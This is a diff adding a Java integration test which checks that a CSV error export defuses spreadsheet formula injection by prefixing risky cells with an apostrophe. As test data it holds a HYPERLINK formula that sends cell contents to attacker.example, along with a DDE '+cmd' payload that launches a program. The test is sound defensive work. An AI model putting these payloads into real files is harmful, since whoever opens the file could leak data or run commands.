@@ -90,6 +90,48 @@ class ErrorExportTest {
     }
 
     @Test
+    void cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text() throws Exception {
+        long fileId = IDS.incrementAndGet();
+        TestKafka.send(Topics.PIPELINE_EVENTS, Long.toString(fileId), EventCodec.encode(
+                new PipelineEvent.FileUploaded(fileId, "f.csv", "csv", 10, 1, Instant.now())));
+        String hyperlink = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"open\")";
+        try (Connection c = dataSource.getConnection(); PreparedStatement s = c.prepareStatement(
+                "INSERT INTO data_errors (source_file_id, job_id, row_number, raw_data, error_type, error_message,"
+                        + " field_name, field_value) VALUES (?, 78, ?, ?, 'FORMAT', ?, ?, ?)")) {
+            Object[][] rows = {
+                    {2L, hyperlink + ",Ann", "must be an e-mail address", "email", hyperlink},
+                    {3L, "@SUM(1),Bob", "+cmd|' /C calc'!A0", "-name", "@SUM(1)"},
+                    {4L, "\tC9,Cy", "is required", "name", "Ann = Bob"}};
+            for (Object[] row : rows) {
+                s.setLong(1, fileId);
+                for (int i = 0; i < row.length; i++) {
+                    s.setObject(i + 2, row[i]);
+                }
+                s.addBatch();
+            }
+            s.executeBatch();
+        }
+        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> given().auth().oauth2(TestTokens.forRole("viewer"))
+                .when().get("/api/data/files/" + fileId + "/errors").then().statusCode(200));
+
+        List<CsvRecord> records = parse(given().auth().oauth2(TestTokens.forRole("analyst"))
+                .when().get("/api/data/files/" + fileId + "/errors/export").then().statusCode(200).extract().asString());
+
+        assertThat(records).hasSize(4);
+        CsvRecord link = records.get(1);
+        assertThat(link.getField(5)).isEqualTo("'" + hyperlink);
+        assertThat(link.getField(8)).isEqualTo("'" + hyperlink + ",Ann");
+        CsvRecord sum = records.get(2);
+        assertThat(sum.getField(4)).isEqualTo("'-name");
+        assertThat(sum.getField(5)).isEqualTo("'@SUM(1)");
+        assertThat(sum.getField(7)).isEqualTo("'+cmd|' /C calc'!A0");
+        assertThat(sum.getField(8)).isEqualTo("'@SUM(1),Bob");
+        CsvRecord plain = records.get(3);
+        assertThat(plain.getField(8)).isEqualTo("'\tC9,Cy");
+        assertThat(plain.getField(5)).isEqualTo("Ann = Bob");
+    }
+
+    @Test
     void the_export_across_files_takes_the_same_filters_and_sort() throws Exception {
         long fileId = knownFileWithErrors();
         String csv = given().auth().oauth2(TestTokens.forRole("admin"))
